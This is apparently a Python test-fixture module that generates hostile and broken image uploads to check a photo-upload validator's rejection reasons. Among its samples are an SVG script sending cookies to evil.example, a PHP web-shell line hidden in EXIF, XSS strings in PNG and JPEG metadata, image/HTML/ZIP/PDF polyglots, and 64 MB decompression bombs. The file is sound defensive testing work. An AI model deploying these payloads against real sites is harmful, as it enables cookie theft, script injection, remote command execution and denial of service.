"""A corpus of hostile and broken photo uploads, built in memory (no binary fixtures).

Each entry carries the `ImageRejected` reason that `portal.media.imaging.process_image` gives it
under `HOSTILE_LIMITS`. Other tests (upload views, storage) import this module; it holds no
tests itself.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

from PIL import Image, PngImagePlugin


@dataclass(frozen=True)
class HostileUpload:
    id: str  # short kebab-case id, unique
    filename: str  # as a browser would send it (often with a misleading extension)
    data: bytes
    reason: str  # the ImageRejected reason from process_image(data, **HOSTILE_LIMITS)


HOSTILE_LIMITS = dict(max_bytes=2 * 1024 * 1024, max_pixels=4_000_000, max_side=8000)

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


# -- Small building blocks ------------------------------------------------------------------


def noise_image(size: tuple[int, int], mode: str = "RGB", seed: int = 7) -> Image.Image:
    """A deterministic image of random pixels (compresses badly, so files are not tiny)."""
    width, height = size
    channels = len(mode)
    return Image.frombytes(mode, size, random.Random(seed).randbytes(width * height * channels))


def encode(im: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    im.save(buffer, fmt, **params)
    return buffer.getvalue()


def jpeg_bytes(size: tuple[int, int] = (64, 48), **params) -> bytes:
    return encode(noise_image(size), "JPEG", quality=90, **params)


def png_bytes(size: tuple[int, int] = (32, 24), **params) -> bytes:
    return encode(noise_image(size), "PNG", **params)


def webp_bytes(size: tuple[int, int] = (32, 24), **params) -> bytes:
    return encode(noise_image(size), "WEBP", **params)


def png_chunk(chunk_type: bytes, payload: bytes, *, crc: int | None = None) -> bytes:
    if crc is None:
        crc = zlib.crc32(chunk_type + payload)
    return struct.pack(">I", len(payload)) + chunk_type + payload + struct.pack(">I", crc)


def png_from_rows(
    width: int, height: int, *, bit_depth: int, color_type: int, row_bytes: int
) -> bytes:
    """A PNG of all-zero rows, compressed row by row (never holds the raw pixels in memory)."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + row_bytes)  # filter type 0 + the row's bytes
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", b"".join(parts))
        + png_chunk(b"IEND", b"")
    )


def png_stored(rows: list[bytes]) -> bytes:
    """An 8-bit RGB PNG whose IDAT is stored, not compressed (zlib level 0): the raw scanline
    bytes, `rows` (each 3 * width bytes), appear verbatim in the file."""
    width, height = len(rows[0]) // 3, len(rows)
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    raw = b"".join(b"\x00" + row for row in rows)  # filter type 0 (None) on every row
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(raw, 0))
        + png_chunk(b"IEND", b"")
    )


def png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    """(type, payload) of each chunk of a well-formed PNG."""
    chunks, pos = [], len(PNG_SIGNATURE)
    while pos < len(data):
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        chunks.append((data[pos + 4 : pos + 8], data[pos + 8 : pos + 8 + length]))
        pos += 12 + length
    return chunks


def png_insert_before(data: bytes, before: bytes, chunk: bytes) -> bytes:
    """Insert a raw chunk before the first chunk of type `before`."""
    index = data.index(before) - 4
    return data[:index] + chunk + data[index:]


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_insert_after_soi(data: bytes, segment: bytes) -> bytes:
    return data[:2] + segment + data[2:]


def jpeg_insert_before_sos(data: bytes, segment: bytes) -> bytes:
    index = data.index(b"\xff\xda")
    return data[:index] + segment + data[index:]


def jpeg_segments(data: bytes) -> list[tuple[int, int, int]]:
    """(marker, offset of the marker, offset past the segment) up to the first SOS."""
    segments, pos = [], 2
    while pos < len(data):
        marker = data[pos + 1]
        (length,) = struct.unpack(">H", data[pos + 2 : pos + 4])
        segments.append((marker, pos, pos + 2 + length))
        if marker == 0xDA:
            break
        pos += 2 + length
    return segments


def jpeg_with_dimensions(width: int, height: int) -> bytes:
    """A small valid JPEG whose SOF header is patched to claim other dimensions."""
    data = bytearray(jpeg_bytes((16, 16)))
    for marker, offset, _end in jpeg_segments(bytes(data)):
        if marker in (0xC0, 0xC1, 0xC2):
            data[offset + 5 : offset + 9] = struct.pack(">HH", height, width)
            return bytes(data)
    raise AssertionError("no SOF segment")


def webp_with_riff_size(data: bytes, riff_size: int) -> bytes:
    return data[:4] + struct.pack("<I", riff_size) + data[8:]


def fix_riff_size(data: bytes) -> bytes:
    return webp_with_riff_size(data, len(data) - 8)


def webp_append_chunk(data: bytes, fourcc: bytes, payload: bytes) -> bytes:
    chunk = fourcc + struct.pack("<I", len(payload)) + payload + b"\x00" * (len(payload) % 2)
    return fix_riff_size(data + chunk)


def zip_archive(comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.comment = comment
        info = zipfile.ZipInfo("payload/readme.txt", date_time=(2024, 1, 1, 0, 0, 0))
        archive.writestr(info, "A hidden archive riding on a photo.\n" * 20)
    return buffer.getvalue()


def jpeg_with_many_scans(scans: int) -> bytes:
    """A progressive JPEG whose last scan is repeated until it has `scans` scans."""
    data = encode(noise_image((16, 16)), "JPEG", quality=90, progressive=True)
    last_sos = data.rindex(b"\xff\xda")
    last_scan = data[last_sos:-2]  # up to, not including, EOI
    existing = data.count(b"\xff\xda")
    return data[:-2] + last_scan * (scans - existing) + b"\xff\xd9"


def vp8x_webp_header(width: int, height: int) -> bytes:
    """An extended-format WebP claiming a canvas of width x height, with no image data."""
    payload = b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little")
    payload += (height - 1).to_bytes(3, "little")
    body = b"WEBP" + b"VP8X" + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", len(body)) + body


def vp8l_webp_header(width: int, height: int) -> bytes:
    """A lossless WebP claiming width x height, followed by a little garbage."""
    bits = (width - 1) | ((height - 1) << 14)
    payload = b"\x2f" + struct.pack("<I", bits) + b"\x00" * 11
    body = b"WEBP" + b"VP8L" + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", len(body)) + body


def animated(fmt: str) -> bytes:
    frames = [Image.new("RGB", (16, 16), color) for color in ("red", "lime", "blue")]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0)


# -- Valid uploads that only look odd -------------------------------------------------------


def renamed_but_valid() -> HostileUpload:
    """A valid PNG sent as .jpg: accepted (as PNG); the name is not trusted either way."""
    return HostileUpload("png-named-jpg", "holiday.jpg", png_bytes((24, 16)), "")


# -- The corpus -----------------------------------------------------------------------------

SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    b'<rect width="10" height="10"/></svg>\n'
)
HTML = (
    b"<!DOCTYPE html><html><body><script>alert(document.domain)</script>"
    b'<iframe src="https://evil.example/"></iframe></body></html>\n'
)
PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    b" >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)


def _png_html_in_stored_idat() -> bytes:
    """A PNG/HTML polyglot: uncompressed image data whose first pixels are an HTML page."""
    width = 64
    rows = [bytes(3 * width) for _ in range(16)]
    rows[0] = HTML[: 3 * width].ljust(3 * width, b" ")
    return png_stored(rows)


def _png_with_text(key: str, value: str, *, itxt: bool = False) -> bytes:
    info = PngImagePlugin.PngInfo()
    if itxt:
        info.add_itxt(key, value)
    else:
        info.add_text(key, value)
    return png_bytes((16, 16), pnginfo=info)


def _png_corrupt_idat() -> bytes:
    data = bytearray(png_bytes((32, 32)))
    start = data.index(b"IDAT") + 4 + 10
    for offset in range(start, start + 40):
        data[offset] ^= 0xFF  # the chunk's CRC is left as it was, so it no longer matches
    return bytes(data)


def _png_bad_ihdr_crc() -> bytes:
    data = bytearray(png_bytes((16, 16)))
    crc_offset = data.index(b"IHDR") + 4 + 13
    data[crc_offset] ^= 0x55
    return bytes(data)


def _png_zero_width() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 0, 16, 8, 2, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 16))
        + png_chunk(b"IEND", b"")
    )


def _png_compressed_chunk_bomb(chunk_type: bytes, prefix: bytes) -> bytes:
    """A zTXt or iCCP chunk that inflates to 64 MB (Pillow caps text chunks at 1 MB)."""
    compressor = zlib.compressobj(9)
    block = b"\x00" * (1024 * 1024)
    compressed = b"".join(compressor.compress(block) for _ in range(64)) + compressor.flush()
    chunk = png_chunk(chunk_type, prefix + compressed)
    return png_insert_before(png_bytes((16, 16)), b"IDAT", chunk)


def _jpeg_with_exif_description(text: str) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = text  # ImageDescription
    return jpeg_bytes((16, 16), exif=exif.tobytes())


def _tiny_images() -> dict[str, bytes]:
    im = noise_image((16, 16))
    return {
        "GIF": encode(im.convert("P"), "GIF"),
        "BMP": encode(im, "BMP"),
        "TIFF": encode(im, "TIFF"),
        "ICO": encode(im, "ICO", sizes=[(16, 16)]),
    }


@cache
def hostile_uploads() -> list[HostileUpload]:
    jpeg = jpeg_bytes()
    png = png_bytes()
    webp = webp_bytes()
    tiny = _tiny_images()
    garbage = random.Random(1234).randbytes(4096).replace(b"\xff\xd9", b"\xff\x00")
    uploads = [
        # empty
        HostileUpload("empty", "photo.jpg", b"", "empty"),
        HostileUpload("whitespace-only", "photo.png", b" \r\n\t  \n", "empty"),
        # too_large: the size is checked before anything else looks at the bytes
        HostileUpload(
            "over-max-bytes",
            "huge.jpg",
            b"\xff\xd8\xff\xe0" + b"\x00" * (2 * 1024 * 1024),
            "too_large",
        ),
        # wrong_type: not a JPEG, PNG or WebP at all
        HostileUpload("svg-script", "drawing.svg", SVG, "wrong_type"),
        HostileUpload("svg-renamed-jpg", "photo.jpg", SVG, "wrong_type"),
        HostileUpload("svgz", "drawing.svgz", gzip.compress(SVG, mtime=0), "wrong_type"),
        HostileUpload("html-renamed-png", "photo.png", HTML, "wrong_type"),
        HostileUpload("pdf-renamed-jpg", "scan.jpg", PDF, "wrong_type"),
        HostileUpload("plain-text", "notes.jpg", b"Meeting notes, not a photo.\n", "wrong_type"),
        HostileUpload("json", "photo.json", json.dumps({"src": "x.jpg"}).encode(), "wrong_type"),
        HostileUpload("gif", "animation.gif", tiny["GIF"], "wrong_type"),
        HostileUpload("gif-renamed-webp", "photo.webp", tiny["GIF"], "wrong_type"),
        HostileUpload("bmp", "photo.bmp", tiny["BMP"], "wrong_type"),
        HostileUpload("tiff", "scan.tiff", tiny["TIFF"], "wrong_type"),
        HostileUpload("ico", "favicon.ico", tiny["ICO"], "wrong_type"),
        HostileUpload(
            "elf-renamed-png", "photo.png", b"\x7fELF\x02\x01\x01" + bytes(57), "wrong_type"
        ),
        HostileUpload("exe-renamed-jpg", "photo.jpg", b"MZ\x90\x00" + bytes(60), "wrong_type"),
        HostileUpload("gzip", "photo.jpg.gz", gzip.compress(jpeg, mtime=0), "wrong_type"),
        HostileUpload(
            "riff-wave-renamed-webp",
            "photo.webp",
            b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(28),
            "wrong_type",
        ),
        # wrong_type: polyglots, valid images carrying markup or archives
        HostileUpload("jpeg-html-polyglot", "photo.jpg", jpeg + HTML, "wrong_type"),
        HostileUpload("jpeg-magic-then-html", "photo.jpg", b"\xff\xd8\xff" + HTML, "wrong_type"),
        HostileUpload(
            "jpeg-script-comment",
            "photo.jpg",
            jpeg_bytes((16, 16), comment=b"<script>alert(1)</script>"),
            "wrong_type",
        ),
        HostileUpload(
            "jpeg-php-in-exif",
            "photo.jpg",
            _jpeg_with_exif_description("<?php system($_GET['c']); ?>"),
            "wrong_type",
        ),
        HostileUpload("jpeg-zip-polyglot", "photo.jpg", jpeg + zip_archive(), "wrong_type"),
        # An end-of-image marker in the archive comment: "after the last FF D9" would miss it.
        HostileUpload(
            "jpeg-zip-eoi-in-comment",
            "photo.jpg",
            jpeg + zip_archive(comment=b"\xff\xd9"),
            "wrong_type",
        ),
        HostileUpload("jpeg-pdf-appended", "photo.jpg", jpeg + PDF, "wrong_type"),
        HostileUpload("png-trailing-bytes", "photo.png", png + b"hidden payload", "wrong_type"),
        HostileUpload(
            "png-svg-text-chunk",
            "photo.png",
            _png_with_text("Comment", '<svg onload="alert(1)"/>'),
            "wrong_type",
        ),
        HostileUpload(
            "png-javascript-itxt",
            "photo.png",
            _png_with_text("Source", "javascript:alert(1)", itxt=True),
            "wrong_type",
        ),
        # Past the first KiB, where only metadata segments and chunks are searched.
        HostileUpload(
            "jpeg-svg-comment-before-scan",
            "photo.jpg",
            jpeg_insert_before_sos(jpeg_bytes(comment=b"x" * 1200), jpeg_segment(0xFE, SVG)),
            "wrong_type",
        ),
        HostileUpload(
            "png-svg-text-after-idat",
            "photo.png",
            png_insert_before(
                png_bytes((48, 32)), b"IEND", png_chunk(b"tEXt", b"Comment\x00" + SVG)
            ),
            "wrong_type",
        ),
        HostileUpload(
            "png-html-in-stored-idat", "photo.png", _png_html_in_stored_idat(), "wrong_type"
        ),
        HostileUpload("webp-xmp-svg", "photo.webp", webp_bytes((96, 64), xmp=SVG), "wrong_type"),
        HostileUpload(
            "webp-unknown-chunk-pdf",
            "photo.webp",
            webp_append_chunk(webp_bytes((96, 64)), b"ZZZZ", PDF),
            "wrong_type",
        ),
        HostileUpload(
            "webp-wrong-riff-length",
            "photo.webp",
            webp_with_riff_size(webp, len(webp) - 8 + 100),
            "wrong_type",
        ),
        HostileUpload("webp-html-appended", "photo.webp", webp + HTML, "wrong_type"),
        # too_many_pixels: dimensions from the header, nothing decoded
        HostileUpload(
            "png-pixel-bomb",
            "photo.png",
            png_from_rows(20000, 20000, bit_depth=1, color_type=0, row_bytes=2500),
            "too_many_pixels",
        ),
        HostileUpload(
            "png-over-max-pixels",
            "photo.png",
            png_from_rows(2001, 2000, bit_depth=1, color_type=0, row_bytes=251),
            "too_many_pixels",
        ),
        HostileUpload(
            "jpeg-huge-dimensions",
            "photo.jpg",
            jpeg_with_dimensions(65000, 65000),
            "too_many_pixels",
        ),
        HostileUpload(
            "png-side-too-long",
            "photo.png",
            png_from_rows(1, 100000, bit_depth=8, color_type=0, row_bytes=1),
            "too_many_pixels",
        ),
        HostileUpload(
            "jpeg-side-too-long", "photo.jpg", jpeg_with_dimensions(8001, 10), "too_many_pixels"
        ),
        HostileUpload(
            "webp-vp8x-huge-canvas",
            "photo.webp",
            vp8x_webp_header(1 << 24, 1 << 24),
            "too_many_pixels",
        ),
        HostileUpload(
            "webp-vp8l-huge", "photo.webp", vp8l_webp_header(16384, 16384), "too_many_pixels"
        ),
        # animated
        HostileUpload("apng", "photo.png", animated("PNG"), "animated"),
        HostileUpload("animated-webp", "photo.webp", animated("WEBP"), "animated"),
        # damaged
        HostileUpload("jpeg-truncated-half", "photo.jpg", jpeg[: len(jpeg) // 2], "damaged"),
        HostileUpload("jpeg-header-only", "photo.jpg", jpeg[:20], "damaged"),
        HostileUpload("jpeg-magic-then-garbage", "photo.jpg", b"\xff\xd8\xff" + garbage, "damaged"),
        HostileUpload("jpeg-too-many-scans", "photo.jpg", jpeg_with_many_scans(300), "damaged"),
        HostileUpload("png-truncated-half", "photo.png", png[: len(png) // 2], "damaged"),
        HostileUpload("png-corrupt-idat", "photo.png", _png_corrupt_idat(), "damaged"),
        HostileUpload("png-bad-ihdr-crc", "photo.png", _png_bad_ihdr_crc(), "damaged"),
        HostileUpload("png-zero-width", "photo.png", _png_zero_width(), "damaged"),
        HostileUpload(
            "png-ztxt-bomb",
            "photo.png",
            _png_compressed_chunk_bomb(b"zTXt", b"Comment\x00\x00"),
            "damaged",
        ),
        HostileUpload(
            "png-iccp-bomb",
            "photo.png",
            _png_compressed_chunk_bomb(b"iCCP", b"icc\x00\x00"),
            "damaged",
        ),
        HostileUpload(
            "webp-truncated", "photo.webp", fix_riff_size(webp[: len(webp) // 2]), "damaged"
        ),
        HostileUpload("webp-header-only", "photo.webp", fix_riff_size(webp[:30]), "damaged"),
    ]
    ids = [upload.id for upload in uploads]
    assert len(ids) == len(set(ids)), "hostile upload ids must be unique"
    return uploads
